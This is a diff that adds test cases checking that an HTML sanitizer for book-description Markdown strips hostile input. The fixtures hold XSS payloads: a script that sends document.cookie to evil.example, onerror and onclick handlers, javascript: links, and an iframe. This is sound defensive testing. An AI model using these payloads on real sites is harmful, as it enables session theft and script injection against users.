@@ -86,3 +86,24 @@ describe('markdownToKdpHtml', () => {
     expect(sanitizeKdpHtml(markdownToKdpHtml('**Buy** <a href="https://x.example">here</a><script>x()</script> now'))).toBe('<p><strong>Buy</strong> here now</p>');
   });
 });
+
+describe('hostile descriptions stay safe (a model or a pasted text may hold anything)', () => {
+  const cases: Array<{ name: string; input: string; expected: string }> = [
+    { name: 'a script tag in Markdown goes with its code', input: 'A **gripping** tale.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\nOut now.', expected: '<p>A <strong>gripping</strong> tale.</p><p>Out now.</p>' },
+    { name: 'event handlers are dropped with every attribute', input: '<p onmouseover="alert(1)">Hover</p><img src=x onerror="alert(2)"><b onclick=steal()>bold</b>', expected: '<p>Hover</p><b>bold</b>' },
+    { name: 'a javascript: link keeps only its text', input: 'Click [here](javascript:alert(1)) or <a href="javascript:alert(2)">there</a>.', expected: '<p>Click here or there.</p>' },
+    { name: 'unclosed tags are closed', input: '<p><em>Open <strong>and open', expected: '<p><em>Open <strong>and open</strong></em></p>' },
+    { name: 'a half-written tag is text, not a tag', input: 'Still <b', expected: '<p>Still &lt;b</p>' },
+    { name: 'HTML entities are read once: an escaped script stays text, never a tag', input: 'Tom &amp; Jerry &lt;script&gt;alert(1)&lt;/script&gt; &quot;fun&quot; &#8212; &eacute;t&eacute;', expected: '<p>Tom &amp; Jerry &lt;script&gt;alert(1)&lt;/script&gt; "fun" — été</p>' },
+    { name: 'an iframe, a style and a comment go whole', input: '<iframe src="https://evil.example">x</iframe><style>*{display:none}</style><!-- <script>x()</script> -->Safe', expected: 'Safe' },
+  ];
+  for (const c of cases) {
+    it(c.name, () => {
+      const out = sanitizeKdpHtml(markdownToKdpHtml(c.input));
+      expect(out).toBe(c.expected);
+      expect(disallowedTags(out)).toEqual([]);
+      // Nothing a browser would run: no script tag, no javascript: address, no tag with an attribute.
+      expect(out).not.toMatch(/<script|javascript:|<[a-z0-9]+\s/i);
+    });
+  }
+});
